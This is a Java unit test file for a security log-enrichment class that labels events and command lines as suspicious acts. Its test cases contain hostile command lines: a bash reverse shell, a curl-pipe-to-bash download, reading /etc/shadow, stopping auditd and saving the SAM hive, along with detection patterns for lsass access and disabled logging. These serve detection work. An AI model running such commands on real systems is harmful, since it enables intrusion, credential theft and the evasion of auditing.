package org.isolog.features.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.TreeMap;
import org.isolog.core.Fields;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class PlatformFactsTest {

    private static Map<String, String> derived(String... namesAndValues) {
        Map<String, String> found = new TreeMap<>();
        new PlatformFacts().derive(Fields.of(namesAndValues), (name, value) -> assertThat(found.put(name, value)).as(name).isNull());
        return found;
    }

    @Test
    void aProcessStartTellsProgramParentDirectoryAndCommand() {
        assertThat(derived("winlog.channel", "Security", "event.action", "process-created", "user.name", "ann",
                "process.executable", "C:\\Windows\\System32\\reg.exe", "process.parent.executable", "C:\\Windows\\System32\\CMD.EXE",
                "process.command_line", "reg save HKLM\\SAM a.b"))
                .isEqualTo(Map.of("@user.kind", "person or service", "@process.started", "reg.exe", "@process.parent", "cmd.exe",
                        "@process.directory", "system directory", "@command.act", "the registry's account database was saved",
                        "@command.length", "21", "@command.run", "4", "@command.symbols", "0", "@command.entropy", "388"));
    }

    @Test
    void aLogonTellsTheKindOfAccountAndWhereItCameFrom() {
        assertThat(derived("winlog.channel", "Security", "event.action", "logged-in", "winlog.logon.type", "NewCredentials",
                "user.name", "WS1$", "source.ip", "203.0.113.9"))
                .isEqualTo(Map.of("@user.kind", "machine", "@source.scope", "external", "@act", "a logon with other credentials for the network"));
    }

    @Test
    void aConnectionTellsWhereItWentAndWhatFor() {
        assertThat(derived("destination.ip", "10.1.2.3", "destination.port", "445"))
                .isEqualTo(Map.of("@destination.scope", "internal", "@destination.port.kind", "file sharing"));
    }

    @Test
    void anEventOfAnotherKindTellsNothing() {
        assertThat(derived("user.name", "ann", "source.ip", "10.0.0.1", "event.action", "logged-out", "message", "x")).isEmpty();
        assertThat(derived("winlog.channel", "Windows PowerShell", "event.provider", "PowerShell", "process.command_line", "powershell -enc AAAA", "process.name", "powershell.exe"))
                .as("PowerShell's own events repeat the command line of their host").isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "StopLogging,,,                                                        the logging of an account was stopped",
        "GetPasswordData,,,                                                    the password of a machine in the cloud was asked for",
        "DescribeInstanceAttribute, requestParameters.attribute, userData,     the start-up script of a machine was read",
        "DescribeInstanceAttribute, requestParameters.attribute, instanceType,",
        "ConsoleLogin, userIdentity.type, Root,                                the root user of an account logged in",
        "ConsoleLogin, userIdentity.type, IAMUser,",
        "Add member to role,,,                                                 somebody was made an administrator of the cloud",
        "google.logging.v2.ConfigServiceV2.DeleteSink,,,                       the audit log of a cloud was switched off or led elsewhere",
        "list, orchestrator.resource.type, secrets,                            secrets of a cluster were read",
        "list, orchestrator.resource.type, pods,",
        "user-created,,,                                                       an account was created",
    })
    void actsNeedNoWindows(String action, String field, String value, String act) {
        Map<String, String> facts = field == null ? derived("event.action", action) : derived("event.action", action, field, value);
        assertThat(facts).isEqualTo(act == null ? Map.of() : Map.of("@act", act));
    }

    @ParameterizedTest
    @CsvSource(delimiter = ';', value = {
        "sudo; bash -i >& /dev/tcp/203.0.113.9/443 0>&1;            a shell was connected to the network",
        "sudo; /usr/bin/cat /etc/shadow;                            the file of passwords was opened",
        "sh; curl -s http://203.0.113.9/a | bash;                   something was downloaded and run at once",
        "sudo; /usr/bin/systemctl stop auditd;                      a protection of Linux was switched off",
        "sudo; /usr/bin/systemctl restart nginx;",
        "explorer.exe; explorer.exe /root,\"c:\\windows\\system32\\calc.exe\";  explorer was told to run a program",
        "net1.exe; net1 use \\\\srv1\\c$;                         a share was used or made by command",
    })
    void commandsOfAnySystemTellWhatTheyAreFor(String process, String command, String act) {
        assertThat(derived("process.name", process, "process.command_line", command).get("@command.act")).isEqualTo(act);
    }

    @Test
    void aScriptTellsWhatItIsFor() {
        assertThat(derived("winlog.channel", "x", "powershell.file.script_block_text", "$m = [Win32]::VirtualAlloc(0, 9)"))
                .isEqualTo(Map.of("@script.act", "a script that writes into memory", "@script.symbols", "6"));
    }

    @ParameterizedTest
    @CsvSource({
        "audit-log-cleared,,,                                                                   an event log was cleared",
        "process-accessed, winlog.event_data.GrantedAccess, 0x1410,                             the memory of lsass was opened for reading",
        "process-accessed, winlog.event_data.GrantedAccess, 0x1000,",
        "process-accessed, winlog.event_data.GrantedAccess, what,",
        "remote-thread-created,,,                                                               a thread was started in lsass",
        "group-member-added, group.id, S-1-5-32-544,                                            an account was added to a privileged group",
        "group-member-added, group.name, Readers,",
        "service-installed, winlog.event_data.ImagePath, %COMSPEC% /c echo,                     a service was installed that runs a shell or lies in an odd place",
        "service-installed, winlog.event_data.ImagePath, C:\\Program Files\\a.exe,              a service was installed",
        "user-renamed, user.changes.name, DC1,                                                  an account was renamed",
        "script-block-logged, log.level, warning,                                               PowerShell itself found a script suspicious",
        "script-block-logged, log.level, verbose,",
        "share-object-checked, winlog.event_data.RelativeTargetName, Users\\a\\Login Data,       a file of stored credentials was opened",
        "share-object-checked, winlog.event_data.RelativeTargetName, Users\\a\\notes.txt,",
        "antivirus-configuration-changed, winlog.event_data.New Value, HKLM\\Exclusions\\Paths\\C:\\ = 0x0, the virus scanner was told to look away",
        "antivirus-configuration-changed, winlog.event_data.New Value, HKLM\\Signature Updates = 0x0,",
        "user-changed, winlog.event_data.UserAccountControl, 'Don''t Require Preauth'' - Enabled', the checks on an account were loosened",
        "user-changed, winlog.event_data.UserAccountControl, Account Disabled,",
        "database-audited, winlog.event_data.param1, statement:ALTER LOGIN [sa] ENABLE,           'logins, roles or the audit of the database were changed'",
        "registry-value-set, registry.path, HKLM\\System\\CurrentControlSet\\Control\\MiniNt\\, a registry key was made that stops event logging",
    })
    void actsAreToldByTheEvent(String action, String field, String value, String act) {
        Map<String, String> facts = derived("winlog.channel", "x", "event.action", action, "winlog.event_data.TargetImage", "C:\\Windows\\system32\\lsass.exe",
                field == null ? "a" : field, value == null ? "b" : value);
        assertThat(facts.get(Derived.ACT)).isEqualTo(act);
    }

    @ParameterizedTest
    @CsvSource({
        "C:\\Users\\Public\\svchost.exe,         a program with the name of a Windows one lies elsewhere",
        "C:\\Windows\\System32\\svchost.exe,",
        "C:\\Windows\\WinSxS\\x\\svchost.exe,",
        "C:\\Windows\\svch0st.exe,               a program's name looks like a Windows one",
        "C:\\Users\\ann\\invoice.pdf.exe,        a program's name hides that it is one",
        "C:\\$Recycle.Bin\\S-1\\a.exe,           a program ran from the recycle bin",
        "C:\\Program Files\\a\\a.exe,",
        "svchost.exe,",
    })
    void disguisesAreToldByThePath(String path, String act) {
        assertThat(derived("event.action", "process-created", "process.executable", path).get(Derived.PROCESS_ACT)).isEqualTo(act);
    }

    @ParameterizedTest
    @CsvSource({
        "127.0.0.1, this machine", "::1, this machine", "10.9.8.7, internal", "172.16.0.1, internal", "172.31.9.9, internal", "172.32.0.1, external",
        "192.168.1.1, internal", "fd00::1, internal", "169.254.1.1, link-local", "fe80::1, link-local", "224.0.0.1, multicast", "ff02::1, multicast",
        "0.0.0.0, none", "8.8.8.8, external", "2001:db8::1, external", "172., external",
    })
    void addressesHaveScopes(String address, String scope) {
        assertThat(Network.scope(address)).isEqualTo(scope);
    }

    @Test
    void shapesAreCounted() {
        assertThat(CommandShape.of("")).isEqualTo(new CommandShape(0, 0, 0, 0));
        assertThat(CommandShape.of("aabb")).isEqualTo(new CommandShape(4, 4, 0, 100));
        assertThat(CommandShape.of("c^m^d \"abc=\"")).isEqualTo(new CommandShape(12, 4, 4, 308));
    }
}
